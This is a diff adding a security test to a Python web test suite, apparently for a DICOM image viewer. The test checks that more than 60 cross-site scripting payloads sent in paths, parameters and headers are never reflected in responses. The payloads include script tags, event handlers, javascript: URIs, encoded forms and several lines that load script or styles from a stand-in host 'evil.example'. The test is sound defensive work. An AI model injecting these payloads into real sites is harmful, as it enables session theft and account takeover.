@@ -5,13 +5,14 @@ from __future__ import annotations
 from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
 
 from isocenter.errors import SettingsError
 from isocenter.settings import Settings
-from isocenter.web.app import create_app
+from isocenter.web.app import STATIC, create_app
 from skins.fake_archive import FakeArchive
 from skins.web_harness import Web, portal, web_of
 
@@ -229,3 +230,113 @@ def test_what_a_path_says_reaches_no_header_and_no_file(fake: Web, path: str) ->
     assert b"create_app" not in response.content
     for name, value in response.headers.raw:
         assert not {b"\r", b"\n", b"\0"} & {bytes([byte]) for byte in name + value}
+
+
+# Shapes that have run somewhere: tags, handlers, schemes, encodings, breaking out of attributes, scripts and comments.
+SCRIPTS = [
+    one.replace("⏎", "\n").replace("⇥", "\t")
+    for one in r"""
+<script>alert(1)</script>
+<ScRiPt>alert(1)</sCrIpT>
+<script src=//evil.example/x.js></script>
+<script⏎>alert(1)</script>
+<scr<script>ipt>alert(1)</scr</script>ipt>
+<script/x>alert(1)</script>
+<img src=x onerror=alert(1)>
+<img src=x onerror=alert`1`>
+<img/src/onerror=alert(1)>
+<image src=x onerror=alert(1)>
+<svg onload=alert(1)>
+<svg/onload=alert(1)>
+<svg><script>alert(1)</script></svg>
+<svg><animate onbegin=alert(1)>
+<svg><a xlink:href=javascript:alert(1)><text y=9>x
+<svg><foreignObject><iframe onload=alert(1)>
+<body onload=alert(1)>
+<body onpageshow=alert(1)>
+<iframe src=javascript:alert(1)>
+<iframe srcdoc='<script>alert(1)</script>'>
+<object data=javascript:alert(1)>
+<embed src=javascript:alert(1)>
+<link rel=import href=//evil.example>
+<base href=//evil.example/>
+<meta http-equiv=refresh content=0;url=javascript:alert(1)>
+<details open ontoggle=alert(1)>
+<video src=x onerror=alert(1)>
+<video><source onerror=alert(1)>
+<audio src=x onerror=alert(1)>
+<input autofocus onfocus=alert(1)>
+<select autofocus onfocus=alert(1)>
+<textarea autofocus onfocus=alert(1)>
+<marquee onstart=alert(1)>
+<form action=javascript:alert(1)>
+<button formaction=javascript:alert(1)>
+<math href=javascript:alert(1)>x
+<math><mtext></table><img src onerror=alert(1)>
+<style>@import'//evil.example';</style>
+<style onload=alert(1)>
+<div style=background:url(javascript:alert(1))>
+<a href=javascript:alert(1)>x</a>
+<a href='java⇥script:alert(1)'>x</a>
+<a href=data:text/html,<script>alert(1)</script>>x
+javascript:alert(1)
+data:text/html,<script>alert(1)</script>
+vbscript:msgbox(1)
+"><script>alert(1)</script>
+'><script>alert(1)</script>
+"onmouseover=alert(1) x="
+'-alert(1)-'
+";alert(1);//
+</script><script>alert(1)</script>
+</title><script>alert(1)</script>
+</textarea><script>alert(1)</script>
+--><script>alert(1)</script>
+]]><script>alert(1)</script>
+{{constructor.constructor('alert(1)')()}}
+${alert(1)}
+#{alert(1)}
+<%= alert(1) %>
+<script>alert(1)
++ADw-script+AD4-alert(1)+ADw-/script+AD4-
+%3Cscript%3Ealert(1)%3C/script%3E
+&lt;script&gt;alert(1)&lt;/script&gt;
+<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
+<xss onpointerover=alert(1)>x
+<x contenteditable onblur=alert(1)>
+""".strip().splitlines()
+]
+
+
+def test_no_answer_is_a_page_made_of_what_was_asked(fake: Web) -> None:
+    """Whatever is sent as path, parameter or header comes back as data at most, which no browser runs."""
+    assert len(SCRIPTS) >= 60
+    pages = [(STATIC / name).read_bytes() for name in ("index.html", "login.html")]
+    places = [
+        *("/{}", "/view/{}", "/login?next={}", "/session?x={}", "/dicomweb/{}", f"{STUDIES}/{{}}"),
+        *(f"{STUDIES}?{name}={{}}" for name in ("PatientName", "includefield", "limit", "accept")),
+        f"{STUDIES}?{{}}=1",
+    ]
+
+    async def asked() -> list[tuple[str, httpx.Response]]:
+        answers = []
+        for script in SCRIPTS:
+            for place in places:
+                answers.append((place, await fake.client.get(place.format(quote(script, safe="")))))
+            plain = script.encode("ascii", "ignore").decode().replace("\n", " ")
+            fields = dict.fromkeys(("content-type", "user-agent", "if-none-match", "x-forwarded-host", "cookie"), plain)
+            answers.append(("header", await fake.client.get(STUDIES, headers=fields)))
+            answers.append(("header", await fake.client.get(STUDIES, headers={"accept": plain})))
+        return answers
+
+    for place, answer in fake.portal.call(asked):
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert "location" not in answer.headers
+        assert "evil" not in str(answer.headers)
+        kind = answer.headers["content-type"].partition(";")[0]
+        if kind == "text/html":
+            # The viewer's own page, or that to sign in: files, in which nothing of the request stands.
+            assert answer.content in pages
+            assert "require-trusted-types-for 'script'" in answer.headers["content-security-policy"]
+        else:
+            assert kind in ("application/json", "application/dicom+json"), place
+            assert "<script" not in answer.text.lower()
